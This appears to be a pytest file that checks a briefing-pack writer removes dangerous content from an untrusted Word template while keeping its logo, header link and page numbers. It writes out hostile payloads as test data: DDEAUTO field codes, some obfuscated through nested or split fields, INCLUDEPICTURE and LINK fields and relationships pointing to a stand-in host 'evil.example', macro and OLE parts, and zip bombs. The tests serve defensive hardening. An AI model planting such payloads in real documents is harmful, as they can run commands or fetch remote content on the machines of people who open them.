"""A house's template from a stranger: what fetches or runs when the pack is opened does not reach it, its looks do."""

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from docx import Document
from docx.oxml import parse_xml
from made_packs import long, pack, simple
from PIL import Image

from assistant.briefing.pack import Item
from assistant.briefing.write import write_pack
from assistant.briefing.writers.word_fields import page_of_pages
from ingest.errors import PolicyError

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
SPACES = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    f'xmlns:r="{RELATIONS}" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:x="urn:of-nobody"'
)
EVIL = "http://evil.example/"


@pytest.fixture
def house(tmp_path: Path) -> Path:
    """A template with a logo, a link and the page in its header."""
    document = Document()
    header = document.sections[0].header
    header.paragraphs[0].text = "House of Parks "
    header.paragraphs[0].add_run().add_picture(logo())
    to = header.part.relate_to("https://parks.example/", f"{RELATIONS}/hyperlink", is_external=True)
    header._element.append(
        parse_xml(f'<w:p {SPACES}><w:hyperlink r:id="{to}"><w:r><w:t>parks.example</w:t></w:r></w:hyperlink></w:p>')
    )
    page_of_pages(document.sections[0].footer.paragraphs[0])
    document.add_paragraph("Write here").add_run().add_picture(logo("red"))
    document.save(str(tmp_path / "house.docx"))
    return tmp_path / "house.docx"


def logo(colour: str = "navy") -> io.BytesIO:
    made = io.BytesIO()
    Image.new("RGB", (120, 40), colour).save(made, "PNG")
    made.seek(0)
    return made


def changed(path: Path, change: Callable[[str, bytes], bytes], **more: bytes) -> None:
    """The package with each of its parts as `change` has it, and more parts."""
    parts = {name: change(name, data) for name, data in parts_of(path).items()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in (parts | more).items():
            package.writestr(name, data)


def related(path: Path, part: str, kind: str, target: str, external: bool = True, data: bytes = b"MZ evil") -> None:
    """Lets a part of a package lead to a place, or to a new part, as 'rIdEvil'."""
    folder, _, name = part.rpartition("/")
    rels = f"{folder}/_rels/{name}.rels".lstrip("/")
    mode = ' TargetMode="External"' if external else ""
    line = f'<Relationship Id="rIdEvil" Type="{kind}" Target="{target}"{mode}/>'
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    whole = parts_of(path).get(rels, empty).replace(b"</Relationships>", f"{line}</Relationships>".encode())
    kinds = b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    changed(
        path,
        lambda name, old: old.replace(b"</Types>", kinds) if name == "[Content_Types].xml" and not external else old,
        **{rels: whole} | ({} if external else {f"{folder}/{target}".lstrip("/"): data}),
    )


def in_header(path: Path, xml: str) -> None:
    document = Document(str(path))
    document.sections[0].header._element.append(parse_xml(f"<w:p {SPACES}>{xml}</w:p>"))
    document.save(str(path))


def in_settings(path: Path, xml: str) -> None:
    document = Document(str(path))
    document.settings.element.insert(0, parse_xml(xml.replace(" ", f" {SPACES} ", 1)))
    document.save(str(path))


def packed(house: Path, tmp_path: Path) -> dict[str, bytes]:
    """The parts of a pack in that template, which can be opened."""
    write_pack(long(pack(Item("Who?", simple()))), tmp_path / "pack.docx", house)
    Document(str(tmp_path / "pack.docx"))
    return parts_of(tmp_path / "pack.docx")


def parts_of(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as package:
        return {name: package.read(name) for name in package.namelist()}


def header(parts: dict[str, bytes]) -> str:
    return parts["word/header1.xml"].decode()


def test_the_looks_of_a_template_stay(house: Path, tmp_path: Path):
    parts = packed(house, tmp_path)

    assert "House of Parks" in header(parts)
    assert re.search(r'<a:blip [^>]*r:embed="rId\d+"', header(parts))
    assert "https://parks.example/" in parts["word/_rels/header1.xml.rels"].decode()
    assert " NUMPAGES " in parts["word/footer1.xml"].decode()
    pictures = [data for name, data in parts.items() if name.startswith("word/media/")]
    assert pictures == [logo().getvalue()], "and the picture of its text, which is gone, goes with it"


@pytest.mark.parametrize(
    ("part", "kind", "inside"),
    [
        ("word/settings.xml", "attachedTemplate", '<w:attachedTemplate r:id="rIdEvil"/>'),
        ("word/settings.xml", "mailMergeSource", '<w:mailMerge ><w:dataSource r:id="rIdEvil"/></w:mailMerge>'),
        ("word/header1.xml", "image", '<w:r><w:drawing><a:blip r:link="rIdEvil"/></w:drawing></w:r>'),
        ("word/header1.xml", "image", '<w:r><w:pict><v:shape><v:imagedata r:id="rIdEvil"/></v:shape></w:pict></w:r>'),
        ("word/header1.xml", "oleObject", '<w:r><w:object><o:OLEObject Type="Link" r:id="rIdEvil"/></w:object></w:r>'),
        ("word/header1.xml", "hyperlink", '<w:r><w:drawing><a:blip r:link="rIdEvil"/></w:drawing></w:r>'),
        ("word/document.xml", "frame", ""),
        ("word/document.xml", "subDocument", ""),
        ("", "webextensiontaskpanes", ""),
    ],
)
def test_nothing_in_a_template_leads_to_a_place_elsewhere(
    house: Path, tmp_path: Path, part: str, kind: str, inside: str
):
    if inside:
        (in_settings if "settings" in part else in_header)(house, inside)
    related(house, part, f"{RELATIONS}/{kind}", f"{EVIL}x")
    assert any(EVIL.encode() in data for data in parts_of(house).values())

    parts = packed(house, tmp_path)
    assert not [name for name, data in parts.items() if b"evil" in data.lower()]
    assert "House of Parks" in header(parts)


@pytest.mark.parametrize(
    ("part", "kind"),
    [
        ("word/document.xml", f"{MICROSOFT}/vbaProject"),
        ("word/document.xml", f"{MICROSOFT}/keyMapCustomizations"),
        ("", f"{MICROSOFT}/ui/extensibility"),
        ("word/header1.xml", f"{RELATIONS}/oleObject"),
        ("word/header1.xml", f"{RELATIONS}/control"),
        ("word/header1.xml", f"{RELATIONS}/package"),
        ("word/document.xml", f"{RELATIONS}/aFChunk"),
        ("word/document.xml", f"{RELATIONS}/glossaryDocument"),
        ("word/document.xml", f"{RELATIONS}/customXml"),
        ("word/document.xml", f"{RELATIONS}/ofTomorrow"),
    ],
)
def test_no_part_that_runs_or_that_nobody_knows_reaches_a_pack(house: Path, tmp_path: Path, part: str, kind: str):
    in_header(house, '<w:r><w:object><w:control r:id="rIdEvil"/><o:OLEObject r:id="rIdEvil"/></w:object></w:r>')
    related(house, part, kind, "evil.bin", external=False)

    parts = packed(house, tmp_path)
    assert not [name for name, data in parts.items() if b"evil" in data.lower() or "evil" in name]
    assert "OLEObject" not in header(parts)


def code(*parts: str, shown: str = "shown") -> str:
    """A field, its code in so many runs."""
    codes = "".join(part if part.startswith("<") else f"<w:instrText>{part}</w:instrText>" for part in parts)
    begin, separate, end = (f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "separate", "end"))
    return f"<w:r>{begin}</w:r><w:r>{codes}</w:r><w:r>{separate}</w:r><w:r><w:t>{shown}</w:t></w:r><w:r>{end}</w:r>"


def nested(*fields: str) -> str:
    return "</w:r>" + "".join(fields) + "<w:r>"


QUOTED = nested(code("QUOTE 68 68 69", shown="DDE"))
DDE = f"DDEAUTO c:\\\\evil {EVIL}"


@pytest.mark.parametrize(
    "field",
    [
        code(f' INCLUDEPICTURE "{EVIL}x.png" \\d '),
        code("INCLUDE", f'TEXT "{EVIL}x"'),
        code(DDE),
        code("D", "<!-- PAGE -->", f"DE c:\\\\evil {EVIL}"),
        code(QUOTED, f" c:\\\\evil {EVIL}"),
        code('IF "a" = "a" ', nested(code(DDE)), " no"),
        code(f"<x:y><w:instrText>PAGE </w:instrText></x:y><w:instrText>{DDE}</w:instrText>"),
        code(
            "<mc:AlternateContent><mc:Choice Requires='x'><w:instrText>PAGE </w:instrText></mc:Choice>"
            f"<mc:Fallback><w:instrText>{DDE}</w:instrText></mc:Fallback></mc:AlternateContent>"
        ),
        code(f"<w:delInstrText>{DDE}</w:delInstrText>"),
        f'<w:fldSimple w:instr=" LINK Word.Document {EVIL}x "><w:r><w:t>shown</w:t></w:r></w:fldSimple>',
        f'<w:r><w:t>shown</w:t><w:fldChar w:fldCharType="begin"/><w:instrText>{DDE}</w:instrText></w:r>',
        f'<w:r><w:t>shown</w:t><w:pict><v:shape><v:imagedata src="{EVIL}x"/><v:fill o:href="{EVIL}x"/></v:shape>'
        "</w:pict></w:r>",
    ],
    ids=str.split("picture text DDE comment built inner passed-over alternatives deleted simple unfinished drawing"),
)
def test_a_field_that_fetches_or_runs_becomes_what_it_showed(house: Path, tmp_path: Path, field: str):
    in_header(house, field)

    found = header(packed(house, tmp_path))
    assert "evil" not in found
    assert "shown" in found
    assert "DDE" not in found


@pytest.mark.parametrize(
    "field",
    [
        code(" IF ", nested(code(" PAGE ", shown="2")), ' > "1" "next" "" '),
        code("= ", nested(code(" NUMPAGES ")), " - 1"),
        code(" STYLEREF ", '"Heading 1"'),
        code(' DATE \\@ "d MMMM yyyy" '),
        '<w:fldSimple w:instr=" page "><w:r><w:t>shown</w:t></w:r></w:fldSimple>',
    ],
    ids=["if", "sum", "heading", "date", "simple"],
)
def test_a_field_that_computes_stays(house: Path, tmp_path: Path, field: str):
    in_header(house, field)
    document = Document(str(house))
    before = document.sections[0].header._element.xpath("w:p[last()]")[0]

    write_pack(pack(Item("Who?", simple())), tmp_path / "pack.docx", house)
    after = Document(str(tmp_path / "pack.docx")).sections[0].header._element.xpath("w:p[last()]")[0]
    assert after.xml == before.xml


def test_a_template_that_is_a_bomb_or_has_no_end_is_refused(house: Path, tmp_path: Path):
    whole = house.read_bytes()
    for bomb, said in (
        ({"word/media/x.png": b" " * 60_000_000}, "a zip bomb"),
        ({f"word/media/{n}.png": b" " * 9_900_000 for n in range(11)}, "unpacks to more than 100 MB"),
    ):
        house.write_bytes(whole)
        changed(house, lambda name, data: data, **bomb)
        with pytest.raises(PolicyError, match=said):
            packed(house, tmp_path)
    house.unlink()
    house.symlink_to("/dev/zero")
    with pytest.raises(PolicyError, match="a pipe, socket or device"):
        packed(house, tmp_path)
